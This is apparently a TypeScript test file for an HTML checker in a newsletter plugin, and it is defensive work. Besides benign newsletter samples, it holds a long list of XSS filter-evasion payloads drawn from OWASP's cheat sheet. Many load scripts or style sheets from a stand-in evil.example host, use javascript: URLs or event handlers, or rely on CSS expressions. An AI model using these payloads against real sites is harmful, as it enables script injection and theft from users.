import { refusedIn } from '../../../../nodes/KitPlugin/answer/html';

/** Typical newsletter HTML. */
const GOOD = [
	'<p>Phone case</p>',
	'<div style="color: #333; padding: 0 10px"><h1>Title</h1><img src="https://example.com/a.png" alt="A"></div>',
	'<a href="https://example.com/?q=javascript:alert(1)" target="_blank" rel="noopener">Buy</a>',
	'<a href="mailto:ana@example.com">Write</a><a href="#top">Up</a><a href="tel:+49301234">Call</a>',
	'<style>@media only screen and (max-width: 600px) { .a > .b { width: 100% } }</style><div class="a"></div>',
	'<style>@media (400px <= width < 600px) { .a { display: none } }</style>',
	'<table background="https://example.com/b.png" bgcolor="#fff"><tr><td>1 < 2 & 3 > 2</td></tr></table>',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'<p title="javascript: the good parts" data-on="x">once upon a time</p>',
	'<!-- <script>not read by anybody</script> --><p>x</p>',
	'<!--[if mso]><table width="600"><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->',
	'<td {% if a == 1 %}class="x"{% else %}class="y"{% endif %}>{% if b < 3 %}x{% endif %}</td>',
	'{% if subscriber.city != blank %}<p>{{ subscriber.city }}</p>{% endif %}',
	'<img src="data:image/png;base64,iVBORw0KGgo=">',
	'<div style="scroll-behavior: smooth; overscroll-behavior: none">x</div>',
	'<p>I <3 formulas, and < input is no element</p>',
	'<!--[if mso]><v:roundrect href="https://example.com/" arcsize="10%" fillcolor="#556270"><w:anchorlock/></v:roundrect><![endif]-->',
	'<!--[if !mso]><!-- --><p>x</p><!--<![endif]-->',
	'<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><base target="_blank">',
	'<img srcset="https://example.com/a.png 1x, https://example.com/b.png 2x" src="https://example.com/a.png">',
	'<td {% if offer.active %}bgcolor="#fff"{% endif %}><a href="{{ offer.url }}?once=1">x</a></td>',
	'<svg><linearGradient id="a"/><rect fill="url(#a)" stroke="#fff"/></svg>',
	'<p\u00a0class="a">\u00a0x\u2028</p>',
];

/** Elements in Kit's documentation, and equivalent ones. */
const ELEMENTS = [
	'action',
	'applet',
	'audio',
	'bgsound',
	'command',
	'embed',
	'form',
	'frame',
	'frameset',
	'iframe',
	'input',
	'link',
	'object',
	'prompt',
	'script',
	'video',
];

/** Techniques of OWASP's filter evasion cheat sheet, with the finding for each. */
const EVASIONS: Array<[technique: string, html: string, found: string]> = [
	['upper and lower case', '<ScRiPt SRC=//evil.example/x.js></sCrIpT>', '<script>'],
	['no closing tag', '<SCRIPT SRC=//evil.example/x.js?< B >', '<script>'],
	['no closing bracket', '<iframe src=//evil.example/x.html <', '<iframe>'],
	['no end at all', '<p>x<script', '<script>'],
	['slash after the name', '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>', '<script>'],
	['slash instead of a space', '<SCRIPT/SRC="//evil.example/x.js"></SCRIPT>', '<script>'],
	['an extra bracket', '<<SCRIPT>alert(1);//<</SCRIPT>', '<script>'],
	['a line break in the tag', '<script\n\tsrc=//evil.example/x.js\n>', '<script>'],
	['a null character in the name', '<SCR\0IPT>alert(1)</SCR\0IPT>', '<script>'],
	['a malformed image tag', '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>', '<script>'],
	['a bracket in a quoted value', '<SCRIPT a=">" SRC="//evil.example/x.js"></SCRIPT>', '<script>'],
	['quotes within quotes', `<SCRIPT "a='>'" SRC="//evil.example/x.js"></SCRIPT>`, '<script>'],
	['behind a broken attribute', '<a href="x"title="</a>"><script>alert(1)</script>', '<script>'],
	['in the title', '</TITLE><SCRIPT>alert(1)</SCRIPT>', '<script>'],
	['in a text area', '<textarea><script>alert(1)</script></textarea>', '<script>'],
	[
		'in a conditional comment',
		'<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->',
		'<script>',
	],
	['behind an empty comment', '<!--><script>alert(1)</script>-->', '<script>'],
	['behind a short comment', '<!---><script>alert(1)</script>-->', '<script>'],
	['behind a comment closed with --!>', '<!-- a --!><script>alert(1)</script>', '<script>'],
	['in a comment that is not closed', '<!-- a <script>alert(1)</script>', '<script>'],
	[
		'in a style element of SVG',
		'<svg><style><img src=x onerror=alert(1)></style></svg>',
		'onerror',
	],
	[
		'an embedded SVG',
		'<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
		'<embed>',
	],
	['an event handler', '<IMG SRC=x onerror="alert(1)">', 'the event handler onerror in <img>'],
	['a handler without quotes', '<svg/onload=alert(1)>', 'the event handler onload in <svg>'],
	['signs behind the handler', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>', 'onload'],
	['upper case in the handler', '<p OnMouseOver="alert(1)">x</p>', 'onmouseover'],
	['a handler behind a quote', '<img src="x"onerror=alert(1)>', 'onerror'],
	['a script URL', `<a href="javascript:alert('XSS')">x</a>`, 'a script URL in <a>'],
	['no quotes and no semicolon', '<IMG SRC=javascript:alert(1)>', 'a script URL in <img>'],
	['mixed case', '<IMG SRC=JaVaScRiPt:alert(1)>', 'a script URL'],
	['grave accents', '<IMG SRC=`javascript:alert("x")`>', 'a script URL'],
	['a handler behind grave accents', '<IMG SRC=`xx:xx`onerror=alert(1)>', 'a script URL'],
	['a handler in place of an address', '<IMG SRC= onmouseover="alert(1)">', 'a script URL'],
	[
		'a space that is not HTML whitespace before a quote',
		'<p title=\u00a0"><img src=x onerror=alert(1)>">',
		'onerror',
	],
	['a null that turns a tag into text', '<\0p title="><img src=x onerror=alert(1)>', 'onerror'],
	['Liquid before a handler', '<img src=x {% if a %}onerror=alert(1){% endif %}>', 'onerror'],
	['Liquid within a name', '<scr{% comment %}{% endcomment %}ipt>alert(1)</script>', '<script>'],
	[
		'Liquid before a script address',
		'<a href="{% if a %}javascript:b{% endif %}">',
		'a script URL',
	],
	['whitespace of old email clients', '<img\vonerror=alert(1)>', 'onerror'],
	[
		'decimal references',
		'<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
		'a script URL',
	],
	[
		'long references without semicolons',
		'<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
		'a script URL',
	],
	[
		'hexadecimal references',
		'<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>',
		'a script URL',
	],
	['named references', '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>', 'a script URL'],
	['an embedded tab', '<IMG SRC="jav\tascript:alert(1);">', 'a script URL'],
	['an encoded tab', '<IMG SRC="jav&#x09;ascript:alert(1);">', 'a script URL'],
	['an embedded line break', '<IMG SRC="jav&#x0A;ascript:alert(1);">', 'a script URL'],
	[
		'spaces and control characters first',
		'<IMG SRC=" &#14;  javascript:alert(1);">',
		'a script URL',
	],
	['another script language', `<IMG SRC='vbscript:msgbox("x")'>`, 'a script URL'],
	[
		'the background of a table',
		'<TABLE BACKGROUND="javascript:alert(1)">',
		'a script URL in <table>',
	],
	[
		'the source of old images',
		'<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
		'a script URL in <img>',
	],
	['a base address', '<BASE HREF="javascript:alert(1);//">', 'a script URL in <base>'],
	[
		'a refresh',
		'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
		'a script URL in <meta>',
	],
	[
		'a refresh to data',
		'<META HTTP-EQUIV="refresh" CONTENT="0; URL=data:text/html;base64,PHA+">',
		'a script URL in <meta>',
	],
	[
		'a second address of a refresh',
		'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(1);">',
		'a script URL in <meta>',
	],
	[
		'a character reference in a refresh',
		'<META HTTP-EQUIV="x" CONTENT="0; URL&equals;javascript:alert(1);">',
		'a script URL in <meta>',
	],
	['a redirect', '<meta http-equiv=" Refresh" content="0; url=//evil.example">', '"refresh" in <m'],
	[
		'a style sheet as a header',
		'<META HTTP-EQUIV="Link" Content="<//evil.example/x.css>; REL=stylesheet">',
		'http-equiv="link" in <meta>',
	],
	['a base for all URLs', '<base href="//evil.example/">', 'href in <base>'],
	['a page as data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', 'a script URL in <a>'],
	[
		'an address in SVG',
		'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
		'a script URL in <a>',
	],
	[
		'an animated address',
		'<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
		'a script URL in <animate>',
	],
	[
		'one of several animated addresses',
		'<svg><a><animate attributeName="href" values="x;javascript:alert(1)"/></a></svg>',
		'a script URL in <animate>',
	],
	[
		'an address in an attribute of SVG',
		'<svg><rect fill="url(#a)" filter="url(//evil.example/x.svg#b)"/></svg>',
		'a CSS url() in <rect>',
	],
	['a style sheet', '<LINK REL="stylesheet" HREF="//evil.example/x.css">', '<link>'],
	[
		'an imported style sheet',
		"<STYLE>@import'//evil.example/x.css';</STYLE>",
		'a CSS @import in <style>',
	],
	['an import that is split', '<STYLE>@im\\port"//evil.example/x.css";</STYLE>', 'a CSS @import'],
	[
		'an address in CSS',
		'<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE>',
		'a CSS url() in <style>',
	],
	[
		'an image in a style attribute',
		'<DIV STYLE="background-image: url(https://example.com/a.png)">',
		'a CSS url() in <div>',
	],
	[
		'CSS escapes',
		'<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\'\\0029">',
		'a CSS url()',
	],
	['references in a style', '<DIV STYLE="background:&#117;rl(//evil.example)">', 'a CSS url()'],
	['an expression', '<DIV STYLE="width: expression(alert(1));">', 'a CSS expression()'],
	[
		'an expression split by a comment',
		`<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">`,
		'a CSS expression()',
	],
	[
		'comments between strings that look like comments',
		`exp/*<A STYLE='no\\xss:noxss("*//*"); xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
		'a CSS expression()',
	],
	[
		'an escaped quote before a comment',
		`<p style='\\"; width: expr/*x*/ession(alert(1)); a: "'>`,
		'a CSS expression()',
	],
	[
		'an address between texts like comments',
		`<p style='a:"/*";b:url(//evil.example);c:"*/"'>`,
		'a CSS url()',
	],
	['a binding', '<STYLE>BODY{-moz-binding:url("//evil.example/x.xml#x")}</STYLE>', '-moz-binding'],
	['a behavior', '<XSS STYLE="behavior: url(xss.htc);">', 'the CSS property behavior'],
	['a style element that is not closed', '<style>a{b:url(//evil.example)}', 'a CSS url()'],
];

describe('The check of HTML', () => {
	it.each(GOOD)('accepts %s', (html) => {
		expect(refusedIn(html)).toEqual([]);
	});

	it.each(ELEMENTS)('names the element %s', (name) => {
		expect(refusedIn(`<p>x</p><${name} a="b">y</${name}>`)).toContain(`<${name}>`);
	});

	it.each(EVASIONS)('detects %s', (_technique, html, found) => {
		expect(refusedIn(html).join(', ')).toContain(found);
		expect(refusedIn(html)).not.toEqual([]);
	});

	it('names each finding once, and five at most', () => {
		expect(refusedIn('<script></script><script></script>')).toEqual(['<script>']);
		expect(refusedIn(ELEMENTS.map((name) => `<${name}>`).join(''))).toHaveLength(5);
	});

	it.each([
		{ what: 'comments that are not closed', part: '<!--' },
		{ what: 'closed comments', part: '<!---->' },
		{ what: 'style elements', part: '<style>' },
		{ what: 'Liquid that is not closed', part: '{%' },
		{ what: 'comments in CSS', part: '<p style="/*' },
		{ what: 'quotes in CSS', part: `<style>\\"'` },
		{ what: 'brackets', part: '<' },
		{ what: 'quotes', part: '<a b="' },
		{ what: 'equals signs', part: '<a =' },
	])(
		'parses a megabyte of $what',
		({ part }) => {
			const html = part.repeat(Math.ceil(1_000_000 / part.length));
			expect(refusedIn(html)).toEqual([]);
		},
		5_000,
	);
});
